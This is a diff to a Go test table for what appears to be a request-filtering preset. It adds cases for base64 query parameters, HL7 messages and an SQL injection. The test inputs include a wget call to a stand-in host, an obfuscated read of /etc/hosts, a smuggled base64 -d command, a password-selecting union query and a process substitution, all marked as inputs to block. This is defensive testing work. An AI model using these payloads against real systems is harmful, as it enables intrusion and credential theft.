@@ -61,6 +61,11 @@ func TestPresetLetsNoMorePass(t *testing.T) {
 		{"XML with names", "/x", "application/xml", "<a><b url=\"https://shop.example/?a=1&amp;url=b\">WC Ente; 750 ml</b><c>2026-03-09</c></a>", false},
 		{"XML with a command", "/x", "application/xml", "<a><b>WC Ente; 750 ml</b><c>wget evil.example</c></a>", true},
 		{"XML with another", "/x", "application/xml", "<a><b>WC Ente; 750 ml</b><c>;c$@at /etc/hosts</c></a>", true},
+		{"an encoding", "/x?compression=base64", form, "a=b", false},
+		{"a command", "/x?compression=base64%20-d", form, "a=b", true},
+		{"a message of HL7", "/x", "application/hl7-v2", "RXO|^Ibuprofen 400 mg|1||Tbl|^1-0-1; bei Bedarf", false},
+		{"a message as a text", "/x", "text/plain", "RXO|^Ibuprofen 400 mg|1||Tbl|^1-0-1; bei Bedarf", true},
+		{"SQL in a message", "/x", "application/hl7-v2", "PID|1' union select password from users--", true},
 		{"a stack", "/x", text, `{"stack":"Error: x\n at Object.<anonymous> (https://shop.example/a.js:1:2)"}`, false},
 		{"a substitution", "/x", text, `{"stapel":"a <(id)"}`, true},
 	} {
